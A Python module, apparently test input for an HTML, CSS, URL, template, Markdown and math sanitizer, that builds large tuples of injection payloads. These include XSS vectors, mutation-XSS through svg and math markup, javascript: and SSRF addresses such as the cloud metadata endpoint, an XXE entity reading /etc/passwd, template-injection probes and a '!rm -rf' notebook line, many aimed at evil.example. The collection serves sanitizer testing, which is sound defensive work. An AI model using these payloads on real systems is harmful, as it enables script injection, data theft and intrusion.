"""Texts that try to be markup, style, an address, a template, Markdown or mathematics.

Whatever acts calls ``alert(1)`` or asks ``evil.example``: a page that hears both knows of every success.
"""

from __future__ import annotations

from itertools import product

ACT = "alert(1)"
PLACE = "https://evil.example/x"
FIXED = "position:fixed;inset:0;z-index:99999;background:red"

HANDLERS = (
    "onload",
    "onerror",
    "onmouseover",
    "onfocus autofocus tabindex=1",
    "onanimationstart",
    "ontoggle",
    "onclick",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "marquee",
    "x-own",
    "iframe",
    "style",
)
LOADING = (
    "script", "img", "iframe", "embed", "video", "audio", "track", "source", "input type=image", "frame", "portal",
)  # fmt: skip
ELEMENTS = (
    *tuple(f"<{tag} {on.split()[0]}={ACT} {' '.join(on.split()[1:])}>" for tag, on in product(TAGS, HANDLERS)),
    *(f"<{tag} src={PLACE}>" for tag in LOADING),
    *(f'<{tag} src="javascript:{ACT}">' for tag in LOADING),
    f"<SCRIPT>{ACT}</SCRIPT >",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script type=module>import '{PLACE}'</script>",
    f"<script src=data:,{ACT}></script>",
    f"<script\x0c>{ACT}</script\x0c>",
    f"<script/x>{ACT}//</script>",
    f"<\x00script>{ACT}</script>",
    f"<img/src/onerror={ACT}>",
    "<img src=x:x onerror=&#97lert(1)>",
    f"<img src onerror=\u2028{ACT}>",
    f"<iframe srcdoc='&lt;script&gt;parent.{ACT}&lt;/script&gt;'>",
    f"<object data='javascript:{ACT}'>",
    f"<object data={PLACE}.swf>",
    f"<link rel=prefetch href={PLACE}><link rel=stylesheet href={PLACE}>",
    f"<meta http-equiv=refresh content='0;url={PLACE}'>",
    f"<base href={PLACE}/><base target=_top>",
    f"<form id=f action={PLACE}><button autofocus formaction='javascript:{ACT}'>x",
    f"<dialog open style='{FIXED}'>Sign in again</dialog>",
    f"<template shadowrootmode=open><slot onslotchange={ACT}></slot></template>",
    "<input id=jupyterapp><img name=cookie><form name=getElementById>",
    "<plaintext><xmp><listing><noembed><noframes>",
    "<bdo dir=rtl>siht daer</bdo><marquee>",
    "<select><option selected>a</option></select><textarea>",
    "<button popovertarget=x>open</button><div popover id=x>",
)
BREAKOUTS = tuple(
    f"{quote}{gap}{name}{quote}{' ' if quote else ''}"
    for quote, gap, name in product(
        ('"', "'", "`", ""),
        (" ", "/", "\n", ">"),
        (f"onmouseover={ACT} x=", f"style={FIXED} x=", "autofocus onfocus=alert(1) x="),
    )
) + tuple(
    f"{closing}<img src=x onerror={ACT}>"
    for closing in (
        "</title>", "</style>", "</script>", "</textarea>", "</noscript>", "</template>", "</xmp>", "</iframe>",
        "</svg>", "</math>", "</select>", "</details>", "</summary>", "</pre>", "</code>", "</th></tr></table>",
        "</section></div>", "-->", "--!>", "]]>", "?>", "%>", '\\"', "\\'", "&quot;>", "&#34;>", "&gt;", "%22>",
        "\\u003e", "＞", "\u02ba>",
    )
)  # fmt: skip
STYLES = (
    *tuple(
        f"{head}{FIXED}"
        for head in (";", '";', "';", "#fff;", "red;", "}*{", "</style><style>*{", "/*", "*/", "\\3b ", "\n")
    ),
    f"url({PLACE})",
    f"#fff url({PLACE})",
    f"#fff;background:url('{PLACE}')",
    f"image-set('{PLACE}' 1x)",
    f"@import '{PLACE}';",
    f"@font-face{{font-family:x;src:url({PLACE})}}",
    f"}}body{{display:none}}@import url({PLACE});{{",
    f"expression({ACT})",
    f"behavior:url({PLACE}.htc)",
    f"-moz-binding:url({PLACE}.xml#x)",
    f"var(--x,url({PLACE}))",
    "#fff}.moe{display:none}",
    "#12345",
    "#ggg",
    "#ffffff\x00",
    "#fff!important",
    "color-mix(in srgb,red,blue)",
    "</style>",
    "<style>.moe{visibility:hidden}</style>",
    "<style>@keyframes x{}*{animation:x 1s;position:fixed}</style>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
)
SCHEMES = (
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
)  # fmt: skip
ADDRESSES = (
    tuple(
        wrap.format(scheme)
        for scheme, wrap in product(
            SCHEMES, ("{}", " {}", "\x01{}", "\u00a0{}", "{}.png", "{}#.png", "<{}>", "url({})")
        )
    )
    + tuple(
        f"{odd}{ACT}"
        for odd in (
            "JAVASCRIPT:", "jav\tascript:", "jav\nascript:", "jav\rascript:", "java\0script:", "javascript\t:",
            "javascript&colon;", "javascript&#58;", "&#106;avascript:", "&#x6a;avascript:", "javascript%3a",
            "\\u006aavascript:", "ja&Tab;vascript:", "feed:javascript:", "view-source:javascript:", "jar:javascript:",
            "javascript://x.example/%0a", "javascript:/*--></title>*/", "\ufeffjavascript:", "\u200bjavascript:",
            "ｊavascript:", "javascript：", "livescript:", "mocha:", "x-javascript:",
        )
    )
    + (
        "//evil.example/a.png", "///evil.example/a.png", "\\\\evil.example\\a.png", "/\\evil.example/a.png",
        "https:/evil.example/a.png", "https:evil.example/a.png", "http:\\\\evil.example\\a.png",
        "https://evil.example\\@good.example/a.png", "https://good.example@evil.example/a.png",
        "https://user:pass@evil.example/a.png", "https://[::1/a.png", "https://evil。example/a.png",
        'https://evil.example/a.png" onload="alert(1)', "https://evil.example/a.png' onload='alert(1)",
        "https://evil.example/a.png onload=alert(1)", "https://evil.example/a.png><script>alert(1)</script>",
        "https://evil.example/\u202egnp.exe", "https://evil.example/a\u2066.png", "https://xn--80ak6aa92e.com/a.png",
        "https://аpple.example/a.png", "http://127.0.0.1:8888/api/kernels.png", "http://localhost/shutdown.png",
        "http://169.254.169.254/latest/meta-data/a.png", "http://[::1]:8888/api/contents.png", "http://0x7f.1/a.png",
        "http://2130706433/a.png", "file:///etc/passwd", "file://evil.example/share/a.png",
        "ftp://evil.example/a.png", "blob:https://evil.example/1", "filesystem:https://evil.example/a.png",
        "about:blank", "chrome://settings", "ws://evil.example", "data:image/png;base64,iVBORw0KGgo=",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:,x", "data:;base64,PHNjcmlwdD4=",
        "mailto:a@evil.example?bcc=b@evil.example&body=<b>x</b>", "tel:+1234", "sms:+1",
        "ms-word:ofe|u|https://evil.example/x.docm", "search-ms:query=x&crumb=location:\\\\evil.example",
        "vscode://file/etc/passwd", "intent://evil.example#Intent;end", "#top", "?x=1", "../../up.png",
    )
)  # fmt: skip
FOREIGN = (
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><script href=data:,{ACT} /></svg>",
    f"<svg><a xlink:href=javascript:{ACT}><rect width=999 height=999></a></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><set onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><use href=data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={ACT}></svg>#x>",
    f"<svg><image href={PLACE}.png>",
    f"<svg><foreignObject><img src=x onerror={ACT}></foreignObject></svg>",
    f"<svg><style>@import '{PLACE}';</style></svg>",
    f"<svg><style>*{{{FIXED}}}</style></svg>",
    f"<svg><desc><![CDATA[</desc><img src=x onerror={ACT}>]]></svg>",
    f"<svg><title><img src=x onerror={ACT}></title></svg>",
    f"<svg><filter><feImage href={PLACE}></filter></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={ACT}>'>",
    f"<svg><p><style><g title='</style><img src=x onerror={ACT}>'>",
    f"<math><a xlink:href=javascript:{ACT}>x</a></math>",
    f"<math href=javascript:{ACT}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{ACT}>x</maction></math>",
    f"<math><mi><table><mglyph><style><img src=x onerror={ACT}></style>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={ACT}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ACT}>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={ACT}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={ACT}>'>",
    f"<listing>&lt;img src=x onerror={ACT}&gt;</listing>",
    f"<table><td><svg><desc><td><img src=x onerror={ACT}>",
    f"<a id=x tabindex=1 onfocus={ACT}></a><!--><img src=x onerror={ACT}>-->",
    f"<!--><script>{ACT}</script>",
    f"<!-- --!><img src=x onerror={ACT}>",
    f"<![if IE]><img src=x onerror={ACT}><![endif]>",
    f"<?xml-stylesheet href={PLACE}?><?x ><img src=x onerror={ACT}>?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
    f"\u3008script\u3009{ACT}",
    f"\uff1cscript\uff1e{ACT}\uff1c/script\uff1e",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"\\x3cscript\\x3e{ACT}",
    f"&lt;img src=x onerror={ACT}&gt;",
    f"&amp;lt;script&amp;gt;{ACT}",
    f"&#60;img src=x onerror={ACT}&#62;",
    "&nbsp;&zwj;&rlm;&NewLine;&lbrace;&#0;&#x110000;",
)
TEMPLATES = (
    *(
        form.format(inside)
        for form, inside in product(
            (
                "{{{{ {} }}}}", "{{{{{{{}}}}}}}", "{{% {} %}}", "${{{}}}", "#{{{}}}", "<% {} %>", "<%= {} %>", "[[{}]]",
                "{{{}}}", "`{}`",
            ),
            ("7*7", "config.__class__", "constructor.constructor('alert(1)')()"),
        )
    ),
    "{{ ''|attr('__class__') }}", "{% include '/etc/passwd' %}", "{% raw %}{{ x }}", "{# comment #}",
    "{% endblock %}", "{%- if 1 -%}", "{0.__class__}", "{x!r}", "%(x)s %s %d %n", "$x ${x} $$", "{{ style }}",
    "{{ uid }}", "</template>{{x}}", '{{user.name | default("<b>x</b>")}}', "*{T(java.lang.Runtime)}", "@{1+1}",
    "~{1}", "#set($x=1)$x", "<#assign x=1>", "{php}x{/php}",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{ACT})", f"![x]({PLACE}.png)", f"[x]: javascript:{ACT}", f"<javascript:{ACT}>", f"<{PLACE}>",
    f"[![x]({PLACE}.png)]({PLACE})", "# Heading", "\n# Heading\n", "---\ntitle: x\n---", "```\n</code>\n```",
    "~~~html", "    indented", "> quote", "- [ ] item", "1. one", "| a | b |\n|---|---|", "**bold** __x__ ~~y~~",
    "a\n===", "<div markdown=1>", "[^1]", "$$x$$", f"![x](data:image/svg+xml,<svg onload={ACT}>)",
    f"[x]({PLACE} \"title' onmouseover='alert(1)\")", "```{=html}\n<script>alert(1)</script>\n```",
    "%%html\n<script>alert(1)</script>", "!rm -rf x", "%run x.py", "?print", "__import__('os')", "attachment:x.png",
    "::: warning", ":smile:", "@mention #1", "&copy;", "\\<b\\>", "<!-- #region -->",
)  # fmt: skip
MATHS = (
    "$x^2$", "$$\\frac{1}{2}$$", "\\(x\\)", "\\[x\\]", "\\begin{equation}x\\end{equation}",
    "\\begin{align}a&=b\\end{align}", f"$\\href{{javascript:{ACT}}}{{x}}$", f"$$\\href{{{PLACE}}}{{x}}$$",
    "$\\style{position:fixed;inset:0;background:red}{x}$", "$\\class{moe-badge-live}{x}$", "$\\cssId{x}{y}$",
    "$\\unicode{x202e}$", "$\\require{html}$", "$\\def\\x{\\x\\x}\\x$", "$\\rule{9999px}{9999px}$",
    "$\\color{red}{x}$", "$\\text{</span><img src=x onerror=alert(1)>}$", "$\\includegraphics{x}$",
    "\\input{/etc/passwd}", "\\write18{id}", "\\newcommand{\\x}{y}", "US$5 and US$6", "$\\data{x=y}{z}$",
    "$\\mmlToken{mi}[onclick=alert(1)]{x}$", "\\ref{x}", "\\$x\\$",
)  # fmt: skip
